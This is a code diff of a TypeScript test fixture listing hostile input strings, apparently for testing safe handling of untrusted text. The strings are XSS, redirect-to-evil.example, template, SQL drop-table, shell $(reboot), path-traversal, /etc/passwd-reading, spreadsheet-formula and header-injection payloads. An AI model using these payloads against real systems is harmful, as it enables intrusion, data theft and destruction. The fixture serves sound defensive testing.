@@ -2,12 +2,16 @@
 export const hostileTexts: Readonly<Record<string, string>> = {
   script: '<script>alert(document.cookie)</script>',
   'broken-out attribute': '"\'><img src=x onerror=alert(`a`)><a href="javascript:alert()">click</a>',
-  'closed elements': '--></style></title></textarea></main><svg/onload=alert()><iframe srcdoc="<b>"></iframe>',
-  'a page that goes elsewhere': '<meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example"><form action=//evil.example>',
+  'closed elements':
+    '--></style></title></textarea></main><svg/onload=alert()><iframe srcdoc="<b>"></iframe>',
+  'a page that goes elsewhere':
+    '<meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example"><form action=//evil.example>',
   entities: '&lt;b&gt; &amp;amp; &#x3C;script&#x3E; &nbsp;',
   'template marks': '{{constructor}} ${process.env} #{a*a} <%= a*a %> {% debug %} [[a]] @{a}',
-  'our own template marks': '{person} {firstName} {recorder} {{person}} {note} {list} $t(common.close) $1 $& $$',
-  'typesetting marks': '#read("/etc/passwd") #include "plan.typ" #eval("a+a") $x^a$ *bold* _it_ `raw` <label> @ref \\u{a} // gone /* gone */',
+  'our own template marks':
+    '{person} {firstName} {recorder} {{person}} {note} {list} $t(common.close) $1 $& $$',
+  'typesetting marks':
+    '#read("/etc/passwd") #include "plan.typ" #eval("a+a") $x^a$ *bold* _it_ `raw` <label> @ref \\u{a} // gone /* gone */',
   'a formula': '=HYPERLINK("https://evil.example","Open")',
   'a database command': "'); drop table users; -- /* */ % _ \\ E'\\' ;",
   'a shell command': '$(reboot) `reboot` | reboot; reboot & %COMSPEC% ..\\..\\ ../../../../etc/passwd',
@@ -15,7 +19,7 @@ export const hostileTexts: Readonly<Record<string, string>> = {
   'a header': 'Bcc: thief@evil.example',
   'right-to-left letters': 'مرحبا بالعالم שלום',
   emoji: '👩‍👩‍👧‍👦 🇦🇺 ❤️ 🙏🏽',
-  'many accents': `Z${'\u0351\u036B\u0343'.repeat(10)}a${'\u0301'.repeat(40)}lgo`,
+  'many accents': `Z${'\u0351\u036B\u0343'.repeat(10)}a${'\u0301'.repeat(25)}lgo`,
   'rare Chinese': '𠮷野家 㐂 陳 「」',
 };
 
